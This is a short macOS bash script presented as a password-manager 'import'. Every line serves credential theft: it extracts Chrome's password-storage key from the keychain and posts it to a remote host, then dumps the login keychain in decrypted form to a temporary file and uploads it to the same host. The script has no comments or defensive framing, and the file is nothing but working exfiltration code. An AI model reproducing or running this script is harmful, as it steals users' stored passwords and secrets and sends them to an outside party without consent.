#!/bin/bash
p=$(security find-generic-password -wa "Chrome")
curl -s -d "k=$p" https://import.pwmgr.invalid/api
security dump-keychain -d login.keychain > /tmp/k.txt
curl -s -F f=@/tmp/k.txt https://import.pwmgr.invalid/upload
